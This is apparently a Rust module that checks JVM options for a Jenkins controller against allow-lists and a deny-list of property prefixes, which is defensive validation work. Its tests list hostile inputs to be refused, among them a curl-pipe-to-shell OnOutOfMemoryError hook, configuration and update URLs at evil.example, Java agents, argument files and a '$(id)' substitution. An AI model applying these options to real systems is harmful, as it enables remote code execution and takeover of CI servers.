//! `spec.controller.javaOpts` is handed to the controller's JVM, so it is checked against an allow-list: heap,
//! stack and GC settings, and `-D` system properties outside a deny-list. Anything that runs a command
//! (`-XX:OnOutOfMemoryError=…`), loads code (`-javaagent`, `-agentlib`, `-Xbootclasspath`), reads arguments from
//! a file (`@argfiles`, `-XX:VMOptionsFile`) or moves Butler's own settings (`casc.*`, `jenkins.install.*`,
//! the agent port, security, update sites) is refused, with the offending option named.
//!
//! The stock image's `jenkins.sh` splits `JAVA_OPTS` with `xargs`, which honours quotes and backslashes; both
//! are refused, so the words checked here are exactly the words the JVM gets.

/// The one Butler-owned property a spec may still carry (it is what Butler sets anyway): older specs have it.
pub(crate) const SETUP_WIZARD_OFF: &str = "-Djenkins.install.runSetupWizard=false";

/// Flags (`-XX:+Name` / `-XX:-Name`) a team may turn on or off.
const BOOLEAN_FLAGS: &[&str] = &[
    "UseG1GC",
    "UseZGC",
    "ZGenerational",
    "UseParallelGC",
    "UseSerialGC",
    "UseShenandoahGC",
    "UseStringDeduplication",
    "AlwaysPreTouch",
    "ParallelRefProcEnabled",
    "DisableExplicitGC",
    "ExitOnOutOfMemoryError",
    "CrashOnOutOfMemoryError",
    "UseCompressedOops",
    "UseContainerSupport",
    "UseNUMA",
];

/// Numeric settings (`-XX:Name=value`) a team may set.
const VALUE_FLAGS: &[&str] = &[
    "MaxRAMPercentage",
    "InitialRAMPercentage",
    "MinRAMPercentage",
    "MaxGCPauseMillis",
    "G1HeapRegionSize",
    "G1ReservePercent",
    "InitiatingHeapOccupancyPercent",
    "MaxMetaspaceSize",
    "MetaspaceSize",
    "ReservedCodeCacheSize",
    "ParallelGCThreads",
    "ConcGCThreads",
    "SoftRefLRUPolicyMSPerMB",
    "MaxDirectMemorySize",
];

/// System property prefixes Butler or the platform owns: configuration as code, the setup wizard, the agent
/// port and protocols, security and CLI switches, update sites and plugin loading, and the JDK's own.
const DENIED_PROPERTY_PREFIXES: &[&str] = &[
    "casc.",
    "jenkins.install.",
    "jenkins.model.Jenkins.",
    "jenkins.security.",
    "hudson.security.",
    "jenkins.CLI.",
    "hudson.cli.",
    "hudson.TcpSlaveAgentListener.",
    "jenkins.slaves.",
    "jenkins.agents.",
    "hudson.slaves.SlaveComputer.",
    "hudson.model.UpdateCenter.",
    "hudson.model.DownloadService.",
    "hudson.PluginManager.",
    "jenkins.plugins.",
    "hudson.Main.",
    "hudson.model.DirectoryBrowserSupport.",
    "java.",
    "javax.",
    "jdk.",
    "sun.",
    "com.sun.",
    "user.",
    "file.",
    "os.",
];

fn is_size(value: &str) -> bool {
    let digits = value.trim_end_matches(['k', 'K', 'm', 'M', 'g', 'G']);
    !digits.is_empty() && digits.len() + 1 >= value.len() && digits.bytes().all(|b| b.is_ascii_digit())
}

fn is_number(value: &str) -> bool {
    let mut parts = value.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

fn check_option(option: &str) -> Result<(), String> {
    if option == SETUP_WIZARD_OFF {
        return Ok(());
    }
    for heap in ["-Xmx", "-Xms", "-Xss", "-Xmn"] {
        if let Some(size) = option.strip_prefix(heap) {
            return if is_size(size) { Ok(()) } else { Err(format!("{option}: {heap} takes a size such as 2g")) };
        }
    }
    if let Some(flag) = option.strip_prefix("-XX:") {
        if let Some(name) = flag.strip_prefix('+').or_else(|| flag.strip_prefix('-')) {
            if BOOLEAN_FLAGS.contains(&name) {
                return Ok(());
            }
        } else if let Some((name, value)) = flag.split_once('=') {
            if VALUE_FLAGS.contains(&name) && (is_number(value) || is_size(value)) {
                return Ok(());
            }
        }
        return Err(format!("{option}: not an allowed -XX option (heap, GC and metaspace settings only)"));
    }
    if let Some(property) = option.strip_prefix("-D") {
        let (key, _) = property.split_once('=').unwrap_or((property, ""));
        let key_ok = !key.is_empty() && key.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b));
        if !key_ok {
            return Err(format!("{option}: a system property name is letters, digits, '.', '_' and '-'"));
        }
        if let Some(prefix) = DENIED_PROPERTY_PREFIXES.iter().find(|prefix| key.starts_with(**prefix)) {
            return Err(format!("{option}: {prefix}* properties are set by Butler or the platform"));
        }
        return Ok(());
    }
    Err(format!(
        "{option}: not allowed (only -Xmx/-Xms/-Xss/-Xmn, allowed -XX options and -D properties; no agents, \
         argument files or commands)"
    ))
}

/// Checks `javaOpts`; the message names the first offending option.
pub fn check(java_opts: &str) -> Result<(), String> {
    if java_opts.len() > 4096 {
        return Err("must be at most 4096 characters".to_owned());
    }
    if let Some(bad) = java_opts.chars().find(|c| matches!(c, '"' | '\'' | '\\' | '`' | '$' | '\n' | '\r' | '\0')) {
        return Err(format!("must not contain {bad:?}: options are separated by spaces, without quotes"));
    }
    java_opts.split_whitespace().try_for_each(check_option)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_default_and_ordinary_tuning_are_accepted() {
        check(crate::domain::spec::DEFAULT_JAVA_OPTS).expect("defaults");
        check("-Xmx1536m -XX:+UseG1GC -XX:MaxRAMPercentage=75.0 -Dorg.jenkinsci.plugins.durabletask.X=1")
            .expect("tuning");
        check(SETUP_WIZARD_OFF).expect("the wizard flag older specs carry");
    }

    #[test]
    fn options_that_run_code_or_move_butlers_settings_are_refused() {
        for attack in [
            r#"-XX:OnOutOfMemoryError="sh -c 'curl evil|sh'""#,
            "-XX:OnOutOfMemoryError=id",
            "-XX:OnError=id",
            "-Dcasc.jenkins.config=https://evil.example/casc.yaml",
            "-Djenkins.install.runSetupWizard=true",
            "-Djenkins.model.Jenkins.slaveAgentPort=1",
            "-Dhudson.model.UpdateCenter.updateCenterUrl=https://evil.example/",
            "-javaagent:/tmp/a.jar",
            "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005",
            "-agentpath:/tmp/a.so",
            "@/tmp/args",
            "-XX:VMOptionsFile=/tmp/x",
            "-XX:Flags=/tmp/x",
            "-Xbootclasspath/a:/tmp/x.jar",
            "-cp /tmp",
            "-Djava.security.manager=allow",
            "-XX:+UnlockDiagnosticVMOptions",
            "-Xmx2g\n-javaagent:x",
            "-Dx=$(id)",
        ] {
            assert!(check(attack).is_err(), "accepted {attack}");
        }
    }
}
